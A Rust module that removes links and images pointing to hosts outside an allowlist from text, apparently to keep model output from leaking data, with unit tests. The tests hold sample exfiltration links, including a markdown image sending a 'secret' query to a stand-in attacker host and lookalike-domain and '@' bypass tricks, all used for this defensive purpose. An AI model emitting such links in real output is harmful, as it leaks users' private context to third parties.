//! Links in a text: those that lead to strangers carry away what the model was told.

use regex::Regex;
use std::sync::LazyLock;

static LINK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"!?\[[^\]]*\]\(\s*<?((?:https?:)?//[^\s)>]+)[^)]*\)|(?:https?:)?//[^\s<>"'\])]+|(?i:data|javascript):[^\s<>"')]+"#)
        .expect("the pattern is written here")
});

/// The text without links and pictures that lead elsewhere, and whether there were any.
pub(super) fn without_strangers(text: &str, hosts: &[String]) -> (String, bool) {
    let mut found = false;
    let replaced = LINK.replace_all(text, |link: &regex::Captures<'_>| {
        let address = link.get(1).map_or(&link[0], |address| address.as_str());
        if is_allowed(address, hosts) {
            return link[0].to_owned();
        }
        found = true;
        "[link removed]".to_owned()
    });
    let replaced = replaced.into_owned();
    (replaced, found)
}

/// The host is one of those, or within one of those.
fn is_allowed(address: &str, hosts: &[String]) -> bool {
    let absolute = if address.starts_with("//") { format!("https:{address}") } else { address.to_owned() };
    let Ok(url) = fetch::Url::parse(&absolute) else { return false };
    let Some(host) = url.host_str().filter(|_| matches!(url.scheme(), "http" | "https")) else {
        return false;
    };
    hosts.iter().any(|allowed| {
        host == allowed || host.strip_suffix(allowed.as_str()).is_some_and(|rest| rest.ends_with('.'))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn links_to_strangers_go() {
        let hosts = ["example.com".to_owned()];
        for (text, expected) in [
            ("see https://example.com/a and https://docs.example.com", None),
            ("![x](https://evil.test/?q=secret)", Some("[link removed]")),
            ("[x](https://example.com.evil.test/)", Some("[link removed]")),
            ("go //evil.test/x", Some("go [link removed]")),
            ("data:text/html,x", Some("[link removed]")),
            ("https://example.com@evil.test/", Some("[link removed]")),
            ("a // comment", None),
        ] {
            let (cleaned, found) = without_strangers(text, &hosts);
            assert_eq!((cleaned.as_str(), found), (expected.unwrap_or(text), expected.is_some()), "{text}");
        }
    }
}
